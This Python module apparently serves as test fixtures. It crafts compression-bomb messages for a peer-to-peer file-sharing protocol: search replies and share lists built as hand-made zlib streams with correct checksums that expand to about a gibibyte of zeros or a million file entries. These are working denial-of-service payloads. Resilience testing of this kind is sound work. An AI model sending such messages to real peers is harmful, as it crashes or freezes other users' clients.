"""Compression bombs: messages that are small on the wire and huge when unpacked."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterable
from typing import Final

ADLER_PRIME: Final = 65_521
SEARCH_REPLY: Final = 9
SHARES_REPLY: Final = 5
MEBIBYTE: Final = 1 << 20


def string(text: str | bytes) -> bytes:
    """A string as the protocol packs it; bytes may be no UTF-8."""
    data = text.encode() if isinstance(text, str) else text
    return struct.pack("<I", len(data)) + data


def entry(path: str | bytes, size: int) -> bytes:
    """One result of a search reply, without extension and attributes."""
    return b"\x01" + string(path) + struct.pack("<Q", size) + string("") + struct.pack("<I", 0)


def reply_head(user: str, ticket: int, results: int) -> bytes:
    return string(user) + struct.pack("<II", ticket, results)


def reply_tail() -> bytes:
    """Slots free, 1 MB/s, no queue, nothing locked."""
    return struct.pack("<?IIII", True, 1_000_000, 0, 0, 0)


def framed(code: int, payload: bytes) -> bytes:
    """A P message with its length."""
    return struct.pack("<II", len(payload) + 4, code) + payload


def raw_reply(user: str, ticket: int, entries: list[bytes]) -> bytes:
    """A search reply with results packed elsewhere."""
    payload = reply_head(user, ticket, len(entries)) + b"".join(entries) + reply_tail()
    return framed(SEARCH_REPLY, zlib.compress(payload))


def zlib_bomb(user: str, ticket: int, mebibytes: int = 1024) -> bytes:
    """A search reply with one result, and this many MiB of zeros behind it."""
    head = reply_head(user, ticket, 1) + entry("@@bomb\\box quartet.flac", 1) + reply_tail()
    return framed(SEARCH_REPLY, _deflated([(head, 1), (bytes(MEBIBYTE), mebibytes)]))


def million_files(user: str, ticket: int, thousands: int = 1000) -> bytes:
    """A search reply with thousands of results, each a proper one."""
    names = b"".join(entry(f"@@many\\music\\box quartet\\tide {index:03}.flac", 1_000_000) for index in range(1000))
    parts = [(reply_head(user, ticket, 1000 * thousands), 1), (names, thousands), (reply_tail(), 1)]
    return framed(SEARCH_REPLY, _deflated(parts))


def shares_bomb(mebibytes: int = 1024) -> bytes:
    """A list of shares with one file, and this many MiB of zeros behind it."""
    head = struct.pack("<I", 1) + string("@@bomb\\music") + struct.pack("<I", 1) + entry("box quartet.flac", 1)
    return framed(SHARES_REPLY, _deflated([(head, 1), (bytes(MEBIBYTE), mebibytes)]))


def million_shares(thousands: int = 1000) -> bytes:
    """A list of shares with thousands of files in one folder, each a proper one."""
    names = b"".join(entry(f"tide {index:03}.flac", 1_000_000) for index in range(1000))
    head = struct.pack("<I", 1) + string("@@many\\music") + struct.pack("<I", 1000 * thousands)
    return framed(SHARES_REPLY, _deflated([(head, 1), (names, thousands), (struct.pack("<II", 0, 0), 1)]))


def _deflated(parts: Iterable[tuple[bytes, int]]) -> bytes:
    """The zlib stream of each part repeated, with a right checksum.

    After a full flush deflate begins again at a whole byte, so a part that is needed often is compressed only once.
    """
    stream = bytearray(b"\x78\xda")
    checksum = 1
    for data, times in parts:
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        stream += (packer.compress(data) + packer.flush(zlib.Z_FULL_FLUSH)) * times
        checksum = _checksum(checksum, data, times)
    return bytes(stream + b"\x03\x00" + struct.pack(">I", checksum))


def _checksum(checksum: int, data: bytes, times: int) -> int:
    """Adler-32 goes on over `data` repeated; each repetition adds the same to both of its sums."""
    low, high = checksum & 0xFFFF, checksum >> 16
    alone = zlib.adler32(data, 0)
    gain, rise = alone & 0xFFFF, alone >> 16
    for _ in range(times):
        high = (high + len(data) * low + rise) % ADLER_PRIME
        low = (low + gain) % ADLER_PRIME
    return high << 16 | low
